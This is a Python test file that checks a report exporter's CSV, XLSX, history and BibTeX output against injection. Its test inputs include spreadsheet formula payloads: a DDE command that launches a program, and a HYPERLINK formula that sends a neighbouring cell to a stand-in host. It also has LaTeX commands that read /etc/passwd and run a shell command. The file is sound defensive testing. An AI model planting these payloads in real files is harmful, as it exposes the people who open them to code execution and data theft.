"""Words of a report that a spreadsheet program would run: a formula sends what stands beside it to whoever wrote it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import datetime

import openpyxl
import pytest
from tests.attacks.poisoned import poison

from whosays.exporting.formats import FORMATS
from whosays.exporting.packing import write_archive
from whosays.exporting.writers import ExportFormat
from whosays.model.act import GradeSource, SourceGrade
from whosays.model.casebook import Casebook
from whosays.model.decision import Decision
from whosays.pipeline import make_casebook
from whosays.storing import Store
from whosays.web.desk import Desk
from whosays.web.pages.history import HistoryFilter, write_history

# OWASP, "CSV Injection"; the second is how Excel starts a program, the last three are wide forms that it takes as well.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example/?"&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff201+1",
)
_IGNORED = "\ufeff\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")


@pytest.fixture(scope="module")
def casebook() -> Casebook:
    """A report full of each formula, and decisions whose makers, notes and sources are made of them."""
    at = datetime.fromisoformat("2024-01-01T00:00:00+00:00")
    decisions = [
        Decision(act=GradeSource(source=words, grade=SourceGrade.F), reviewer=words, at=at, note=words)
        for words in FORMULAS
    ]
    return make_casebook([poison(words, killed=9 + number) for number, words in enumerate(FORMULAS)], decisions)


def is_formula(cell: str) -> bool:
    """True of a cell that begins as a formula once what nobody sees is taken off."""
    begins = cell.strip().lstrip(_IGNORED).strip()
    return begins[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and not _NUMBER.fullmatch(begins)


def is_table(name: str) -> bool:
    return name.endswith((".csv", ".tsv"))


def read_files(form: ExportFormat, casebook: Casebook) -> Iterator[tuple[str, bytes]]:
    stream = io.BytesIO()
    write_archive(form, casebook, stream)
    with zipfile.ZipFile(stream) as packed:
        for name in packed.namelist():
            yield name, packed.read(name)


def test_no_cell_of_any_comma_table_begins_as_a_formula(casebook: Casebook) -> None:
    seen = 0
    for form in FORMATS.values():
        if not any(is_table(part.file_name) for part in form.parts):
            continue
        for name, content in ((name, content) for name, content in read_files(form, casebook) if is_table(name)):
            for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
                assert [cell for cell in line if is_formula(cell)] == [], name
                seen += 1
    assert seen > 100


def test_every_cell_of_a_workbook_is_a_text_and_none_begins_as_a_formula(casebook: Casebook) -> None:
    seen = 0
    for form in (form for form in FORMATS.values() if any(part.file_name.endswith(".xlsx") for part in form.parts)):
        for _, content in read_files(form, casebook):
            for sheet in openpyxl.load_workbook(io.BytesIO(content)):
                for cell in (cell for row in sheet.iter_rows() for cell in row):
                    assert cell.data_type != "f", cell
                    assert not (isinstance(cell.value, str) and is_formula(cell.value)), cell
                    # Links lead to other sheets, never out of the file.
                    assert cell.hyperlink is None or cell.hyperlink.target is None, cell
                    seen += 1
    assert seen > 1000


def test_no_cell_of_the_history_begins_as_a_formula(store: Store) -> None:
    desk = Desk(store, reviewer="Ada")
    for formula in FORMULAS:
        desk.decide(GradeSource(source=formula, grade=SourceGrade.F), reviewer=formula, note=formula)
    written = write_history(desk.look(), HistoryFilter(), now=datetime.fromisoformat("2024-01-01T00:00:00+00:00"))
    lines = list(csv.reader(io.StringIO(written, newline="")))

    assert len(lines) == 1 + len(FORMULAS)
    assert [cell for line in lines for cell in line if is_formula(cell)] == []


def test_no_title_is_a_command_of_a_bibliography() -> None:
    words = ("\\input{/etc/passwd}", "\\write18{id}", "}, note = {x}", "@comment{", "a}\n}\n@x{")
    (_, content), *_ = read_files(FORMATS["bibtex"], make_casebook(map(poison, words)))
    written = content.decode()

    assert "\\input{" not in written
    assert "\\write18{" not in written
    assert len(re.findall("^@", written, re.MULTILINE)) == len(words)
    assert written.count("{") == written.count("}")
